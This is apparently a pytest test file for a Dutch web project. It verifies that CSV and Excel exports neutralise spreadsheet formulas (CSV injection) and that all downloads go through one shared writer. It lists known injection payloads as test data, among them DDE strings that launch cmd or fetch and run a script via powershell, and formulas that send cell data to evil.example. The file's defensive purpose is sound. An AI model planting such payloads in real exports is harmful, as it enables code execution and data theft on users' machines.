"""Downloads keep a text that a spreadsheet would run as a formula as text (OWASP "CSV Injection"), and every
download writes through kernkompas.lib.spreadsheet, so that the apps to come get the same protection."""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kernkompas.lib.spreadsheet import csv_bytes, is_formula_like, safe_cell, xlsx_bytes

# The payloads OWASP and the CSV-injection write-ups list, and the variants that slip past a naive check.
OWASP_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik voor de huurprijs")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!E2",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "\tBakkerij",  # OWASP: a leading tab or carriage return is neutralised whatever follows
    "\rBakkerij",
]
HARMLESS = ["Bakkerij Peeters", "Markt 1", "'s-Hertogenbosch", "1+1", "Café = koffie", "a@b.be", "Kapper & Co"]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_formula_in_a_text_gets_an_apostrophe_in_csv(payload):
    assert is_formula_like(payload)
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_an_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text)
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-5, -1.5, 0, 3, 2.25])
def test_numbers_stay_numbers_even_negative_ones(number):
    assert safe_cell(number) == number
    row = list(csv.reader(io.StringIO(csv_bytes(["n"], [[number]]).decode("utf-8-sig"))))[1]
    assert row == [str(number)]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_csv_quotes_every_text_so_that_a_separator_cannot_start_a_cell():
    content = csv_bytes(["naam", "wvo"], [["Bakker;=1+1", 85], ["Bakker\t=1+1", -3]]).decode("utf-8-sig")
    assert content.splitlines()[1] == '"Bakker;=1+1",85'
    assert content.splitlines()[2] == '"Bakker\t=1+1",-3'


def test_every_owasp_payload_comes_back_from_the_csv_behind_an_apostrophe():
    content = csv_bytes(["naam", "adres"], [[payload, payload] for payload in OWASP_PAYLOADS])
    rows = _csv_rows(content)[1:]
    # A field may hold a line break: the csv module reads it back whole.
    assert [row[0] for row in rows] == ["'" + p for p in OWASP_PAYLOADS]


def test_the_csv_header_is_neutralised_too():
    assert _csv_rows(csv_bytes(["=1+1"], []))[0] == ["'=1+1"]


def test_the_excel_file_holds_every_payload_as_text_and_never_a_formula():
    headers = ["naam", "getal", "datum", "keten"]
    rows = [[payload, -5, datetime.date(2025, 3, 1), True] for payload in OWASP_PAYLOADS]
    book = load_workbook(io.BytesIO(xlsx_bytes(headers, rows, sheet="panden")))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in names] == names_as_read()
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    number, day, chain = sheet["B2"], sheet["C2"], sheet["D2"]
    assert (number.value, number.data_type) == (-5, "n")
    assert day.value.date() == datetime.date(2025, 3, 1) and chain.value is True


def names_as_read() -> list[str]:
    """The payloads as openpyxl reads them back (XML turns a carriage return into a line feed)."""
    return [payload.replace("\r", "\n") if payload.startswith("\r") else payload for payload in OWASP_PAYLOADS]


def test_the_excel_file_keeps_an_error_lookalike_and_control_characters_out_of_trouble():
    rows = [["#N/A"], ["Bakkerij\x01Peeters"], ["x" * 40_000]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["naam"], rows, sheet="panden[1]:*?"))).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("#N/A", "s")
    assert sheet["A3"].value == "BakkerijPeeters"
    assert len(sheet["A4"].value) == 32_767
    assert sheet.title == "panden-1----"


# --- The guard: every download writes through kernkompas.lib.spreadsheet ---------------------------------------

_WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|openpyxl\.Workbook|xlsxwriter|to_csv\(|to_excel\(")


def test_no_code_outside_lib_spreadsheet_writes_a_csv_or_excel_file_itself():
    root = Path(__file__).resolve().parents[2]  # the kernkompas package
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in f"/{relative}" or relative in ("lib/spreadsheet.py",) or "/migrations/" in relative:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if _WRITERS.search(line):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert not offenders, (
        "Write downloads with kernkompas.lib.spreadsheet (csv_bytes, xlsx_bytes), which neutralises formulas:\n"
        + "\n".join(offenders)
    )
